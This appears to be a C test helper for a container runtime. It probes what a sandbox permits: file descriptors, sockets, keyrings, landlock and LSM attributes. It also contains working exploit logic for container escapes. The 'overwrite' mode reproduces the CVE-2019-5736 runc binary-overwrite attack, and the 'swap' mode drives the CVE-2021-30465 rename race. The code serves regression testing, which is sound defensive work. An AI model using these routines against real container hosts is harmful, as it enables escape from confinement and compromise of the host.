/* probe - what busybox cannot do, for tests; static, so that it runs inside a container without libraries.
 *
 *	probe fds			the open file descriptors, one a line: "3 /path"
 *	probe count			how many arguments and bytes of environment there are: "ARGS BYTES"
 *	probe open r|w|rw PATH		opens PATH; "ok", or the reason
 *	probe truncate PATH		truncate(2) to nothing; "ok", or the reason; likewise:
 *	probe link FROM TO		a hard link
 *	probe ioctl PATH		TCGETS on what is opened for reading
 *	probe listen|connect PORT	TCP, 127.0.0.1
 *	probe abstract NAME		connects to an abstract socket
 *	probe datagrams PATH		connects to that socket, and sends what it reads, each piece as one
 *	probe lock FD			flock(2) for itself
 *	probe signal PID		SIGCONT
 *	probe landlock			the kernel's ABI of it
 *	probe keyring			the session keyring: "SERIAL type;uid;gid;perm;name"
 *	probe attr NAME			/proc/self/attr/NAME
 *	probe overwrite FILE		CVE-2019-5736's attacker: looks for processes that execute another file than itself
 *					or FILE, keeps their executable open, writes to it as soon as the kernel lets it.
 *					Never ends; prints "ready", then "caught" for each executable, "overwritten" for
 *					each success.
 *	probe enter PID PROGRAM		CVE-2019-5736's victim, the naive runtime: enters the pid and mount namespace of
 *					PID and executes PROGRAM there with the argument "linger"
 *	probe linger			stays for half a second
 *	probe swap A B			exchanges the two names for ever; prints "ready" first (CVE-2021-30465's race)
 */
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

extern char **environ;

static int fds(void)
{
	for (int fd = 0; fd < 4096; fd++) {
		char link[64], target[4096];
		snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(link, target, sizeof target - 1);
		if (n < 0)
			continue;
		target[n] = 0;
		printf("%d %s\n", fd, target);
	}
	return 0;
}

static int count(int argc)
{
	size_t bytes = 0;
	for (char **e = environ; *e; e++)
		bytes += strlen(*e);
	printf("%d %zu\n", argc, bytes);
	return 0;
}

static int open_file(const char *how, const char *path)
{
	int flags = strcmp(how, "r") == 0 ? O_RDONLY : strcmp(how, "w") == 0 ? O_WRONLY : O_RDWR;
	int fd = open(path, flags);
	puts(fd < 0 ? strerror(errno) : "ok");
	return fd < 0;
}

/* ---- what confinement allows or denies ---- */

static int told(int result)
{
	puts(result < 0 ? strerror(errno) : "ok");
	return result < 0;
}

static int ioctl_file(const char *path)
{
	struct termios t;
	int fd = open(path, O_RDONLY | O_NOCTTY);
	return told(fd < 0 ? fd : ioctl(fd, TCGETS, &t));
}

static int tcp(const char *how, const char *port)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons((uint16_t) atoi(port)),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (strcmp(how, "connect") == 0)
		return told(connect(fd, (struct sockaddr *) &at, sizeof at));
	return told(bind(fd, (struct sockaddr *) &at, sizeof at) < 0 ? -1 : listen(fd, 1));
}

static int abstract(const char *name)
{
	struct sockaddr_un at = { .sun_family = AF_UNIX };
	size_t len = strlen(name);
	memcpy(at.sun_path + 1, name, len < sizeof at.sun_path - 1 ? len : sizeof at.sun_path - 1);
	return told(connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *) &at,
			    (socklen_t) (offsetof(struct sockaddr_un, sun_path) + 1 + len)));
}

static int datagrams(const char *path)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	char piece[100];
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	strncpy(to.sun_path, path, sizeof to.sun_path - 1);
	if (connect(s, (struct sockaddr *) &to, sizeof to) < 0)
		err(1, "connect to %s", path);
	for (ssize_t n; (n = read(0, piece, sizeof piece)) > 0;)
		if (send(s, piece, (size_t) n, 0) < 0)
			err(1, "send");
	return 0;
}

static int keyring(void)
{
	char text[512] = "";
	long key = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	if (key < 0 || syscall(SYS_keyctl, KEYCTL_DESCRIBE, key, text, sizeof text - 1) < 0)
		err(1, "keyctl");
	printf("%ld %s\n", key, text);
	return 0;
}

static int attr(const char *name)
{
	char path[64], text[256] = "";
	snprintf(path, sizeof path, "/proc/self/attr/%s", name);
	int fd = open(path, O_RDONLY);
	if (fd < 0 || read(fd, text, sizeof text - 1) < 0)
		err(1, "%s", path);
	puts(text);
	return 0;
}

/* ---- the attacker ---- */

struct catch { int fd; dev_t dev; ino_t ino; };
static struct catch caught[64];
static size_t n_caught;

static int known(const struct stat *st)
{
	for (size_t i = 0; i < n_caught; i++)
		if (caught[i].dev == st->st_dev && caught[i].ino == st->st_ino)
			return 1;
	return 0;
}

static void look_at(const char *pid)
{
	char path[300];
	struct stat st;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || known(&st) || n_caught == 64) {
		close(fd);
		return;
	}
	caught[n_caught++] = (struct catch) { fd, st.st_dev, st.st_ino };
	puts("caught");
}

/* strike - the kernel says ETXTBSY as long as somebody executes the file */
static void strike(struct catch *c)
{
	char path[64];
	if (c->fd < 0)
		return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", c->fd);
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, "#!/overwritten\n", 15) == 15)
		puts("overwritten");
	close(fd);
	close(c->fd);
	c->fd = -1;
}

static int overwrite(const char *own)
{
	/* not worth catching: ourselves, and what the container executes by right */
	const char *harmless[] = { "/proc/self/exe", own };
	struct stat st;
	for (size_t i = 0; i < 2; i++)
		if (stat(harmless[i], &st) == 0)
			caught[n_caught++] = (struct catch) { -1, st.st_dev, st.st_ino };
	setlinebuf(stdout);
	puts("ready");
	for (;;) {
		DIR *proc = opendir("/proc");
		if (!proc)
			err(1, "/proc");
		for (struct dirent *e; (e = readdir(proc));)
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
				look_at(e->d_name);
		closedir(proc);
		for (size_t i = 0; i < n_caught; i++)
			strike(&caught[i]);
	}
}

/* ---- the victim ---- */

static int enter(const char *pid, char *program)
{
	static const char *const kinds[] = { "pid", "mnt" };
	int ns[2];
	char path[64];
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, kinds[i]);
		ns[i] = open(path, O_RDONLY | O_CLOEXEC);
		if (ns[i] < 0)
			err(1, "%s", path);
	}
	for (int i = 0; i < 2; i++)
		if (setns(ns[i], 0) < 0)
			err(1, "setns");
	pid_t child = fork();
	if (child == 0) {
		execl(program, program, "linger", (char *) NULL);
		err(127, "%s", program);
	}
	int status;
	return child < 0 || waitpid(child, &status, 0) < 0 || status != 0;
}

static int swap(const char *a, const char *b)
{
	setlinebuf(stdout);
	puts("ready");
	for (;;)
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
			err(1, "exchange %s and %s", a, b);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (strcmp(what, "fds") == 0)
		return fds();
	if (strcmp(what, "count") == 0)
		return count(argc);
	if (strcmp(what, "open") == 0 && argc == 4)
		return open_file(argv[2], argv[3]);
	if (strcmp(what, "truncate") == 0 && argc == 3)
		return told(truncate(argv[2], 0));
	if (strcmp(what, "link") == 0 && argc == 4)
		return told(link(argv[2], argv[3]));
	if (strcmp(what, "ioctl") == 0 && argc == 3)
		return ioctl_file(argv[2]);
	if ((strcmp(what, "listen") == 0 || strcmp(what, "connect") == 0) && argc == 3)
		return tcp(what, argv[2]);
	if (strcmp(what, "abstract") == 0 && argc == 3)
		return abstract(argv[2]);
	if (strcmp(what, "lock") == 0 && argc == 3)
		return told(flock(atoi(argv[2]), LOCK_EX | LOCK_NB));
	if (strcmp(what, "datagrams") == 0 && argc == 3)
		return datagrams(argv[2]);
	if (strcmp(what, "signal") == 0 && argc == 3)
		return told(kill(atoi(argv[2]), SIGCONT));
	if (strcmp(what, "landlock") == 0)
		return printf("%ld\n", syscall(444 /* landlock_create_ruleset */, NULL, 0, 1)) < 2;
	if (strcmp(what, "keyring") == 0)
		return keyring();
	if (strcmp(what, "attr") == 0 && argc == 3)
		return attr(argv[2]);
	if (strcmp(what, "overwrite") == 0 && argc == 3)
		return overwrite(argv[2]);
	if (strcmp(what, "enter") == 0 && argc == 4)
		return enter(argv[2], argv[3]);
	if (strcmp(what, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(what, "linger") == 0)
		return usleep(500000);
	errx(2, "usage: see the head of probe.c");
}
